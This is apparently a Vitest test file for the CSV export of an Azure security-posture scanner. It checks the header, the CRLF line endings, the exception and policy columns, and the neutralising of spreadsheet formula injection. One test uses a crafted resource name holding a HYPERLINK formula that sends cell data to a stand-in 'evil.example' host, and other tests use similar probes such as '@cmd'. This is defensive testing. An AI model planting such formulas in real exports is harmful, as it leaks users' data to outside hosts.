import { describe, expect, it } from "vitest";
import { evaluateSnapshot } from "@/lib/posture/evaluate";
import { buildResult } from "@/lib/posture/result";
import { account, ACCOUNT_ID, FULL_COVERAGE, snapshot, SUB } from "@/lib/posture/testing/fixtures";
import { csvCell, findingsToCsv, findingsToCsvLines } from "./csv";
import { parseCsv } from "./testing/csv-reader";

const scan = { id: "s", startedAt: "2026-11-28T10:00:00Z", finishedAt: "2026-11-28T10:00:01Z", source: "snapshot" as const, tenantId: null };

function resultFor(name: string) {
  const snap = snapshot({ resources: [account({}, { name })] });
  return buildResult({ snapshot: snap, evaluation: evaluateSnapshot(snap), scan, now: new Date("2026-11-28T10:00:01Z") });
}

function csvFor(name: string) {
  return findingsToCsv(resultFor(name));
}

describe("findingsToCsv", () => {
  it("starts with a UTF-8 BOM and the header, ends rows with CRLF", () => {
    const csv = csvFor("speech-prod-01");
    expect(
      csv.startsWith(
        "\uFEFFsubscriptionId,subscriptionName,resourceId,resourceName,kind,controlId,title,severity,status,reason,muted,message,evidence,azureState,agreement,exceptionId,exceptionOwner,exceptionReason,exceptionExpiresAt\r\n",
      ),
    ).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(1 + 18);
    expect(rows.every((r) => r.length === 19)).toBe(true);
    const iam1 = rows.find((r) => r[5] === "IAM-1")!;
    expect(iam1).toEqual([
      SUB,
      "Subscription 0000",
      expect.stringContaining("/accounts/speech-prod-01"),
      "speech-prod-01",
      "SpeechServices",
      "IAM-1",
      "Key (local) authentication is disabled",
      "medium",
      "fail",
      "",
      "false",
      "speech-prod-01 still accepts API keys (disableLocalAuth is not true).",
      expect.stringMatching(/^account:\/subscriptions\/.* properties\.disableLocalAuth=null$/),
      "",
      "not_collected",
      "",
      "",
      "",
      "",
    ]);
  });

  it("names the muting exception's ID, owner, reason and expiry on a muted finding, and the most specific one when several mute it", () => {
    const snap = snapshot({ resources: [account({}, { name: "speech-prod-01" })] });
    const exceptions = [
      { id: "by-control", controlId: "IAM-1" as const, owner: "carol", reason: "tenant-wide waiver", expiresAt: "2027-06-30" },
      {
        id: "by-resource",
        controlId: "IAM-1" as const,
        resourceId: ACCOUNT_ID,
        owner: "alice@contoso.com",
        reason: "keys, until the SDK moves",
        expiresAt: "2027-01-31",
      },
    ];
    const result = buildResult({ snapshot: snap, evaluation: evaluateSnapshot(snap), scan, exceptions, now: new Date("2026-11-28T10:00:01Z") });
    const rows = parseCsv(findingsToCsv(result).slice(1));
    const iam1 = rows.find((r) => r[5] === "IAM-1")!;
    expect(iam1[10]).toBe("true");
    expect(iam1.slice(15)).toEqual(["by-resource", "alice@contoso.com", "keys, until the SDK moves", "2027-01-31"]);
    expect(rows.find((r) => r[5] === "IAM-2")!.slice(15)).toEqual(["", "", "", ""]);
    // The JSON result (the JSON export's text) carries the same on the finding.
    expect(result.findings.find((f) => f.controlId === "IAM-1")!.exception).toEqual({
      id: "by-resource",
      owner: "alice@contoso.com",
      reason: "keys, until the SDK moves",
      expiresAt: "2027-01-31",
    });
  });

  it("carries Azure's state and the agreement when Azure's verdicts were collected", () => {
    const policyState = {
      id: `${ACCOUNT_ID}/providers/Microsoft.PolicyInsights/policyStates/x`,
      type: "microsoft.policyinsights/policystates",
      properties: {
        resourceId: ACCOUNT_ID,
        policyDefinitionId: "/providers/Microsoft.Authorization/policyDefinitions/71ef260a-8f18-47b7-abcb-62d0673d94dc",
        complianceState: "Compliant",
      },
    };
    const snap = snapshot({ resources: [account(), policyState], coverage: [...FULL_COVERAGE, "azurePolicy"] });
    const result = buildResult({ snapshot: snap, evaluation: evaluateSnapshot(snap), scan, now: new Date("2026-11-28T10:00:01Z") });
    const rows = parseCsv(findingsToCsv(result).slice(1));
    const iam1 = rows.find((r) => r[5] === "IAM-1")!;
    expect(iam1.slice(8, 9).concat(iam1.slice(13, 15))).toEqual(["fail", "compliant", "azure_lenient"]);
    expect(rows.find((r) => r[5] === "BYOS-2")!.slice(13, 15)).toEqual(["none", "not_compared"]);
  });

  it("streams the same text line by line, each line ending in CRLF", () => {
    const result = resultFor("speech-prod-01");
    const lines = [...findingsToCsvLines(result)];
    expect(lines).toHaveLength(19);
    expect(lines.every((l) => l.endsWith("\r\n") && !l.slice(0, -2).includes("\r\n"))).toBe(true);
    expect(lines.join("")).toBe(findingsToCsv(result));
  });

  it("neutralises a formula-crafted resource name wherever it starts a cell", () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click"),x';
    const rows = parseCsv(csvFor(evil).slice(1));
    const row = rows.find((r) => r[5] === "IAM-1")!;
    expect(row[3]).toBe(`'${evil}`);
    // Messages start with the resource name, so they are neutralised too.
    expect(row[11]).toBe(`'${evil} still accepts API keys (disableLocalAuth is not true).`);
    expect(rows.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
  });

  it.each([
    ["=1+1", "'=1+1"],
    ["+SUM(A1)", "'+SUM(A1)"],
    ["-2", "'-2"],
    ["@cmd", "'@cmd"],
    ["\tx", "'\tx"],
    ["\rx", '"\'\rx"'],
    ['say "hi", then go', '"say ""hi"", then go"'],
    ["two\nlines", '"two\nlines"'],
    ["plain", "plain"],
    ["", ""],
  ])("csvCell(%j) = %j", (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});
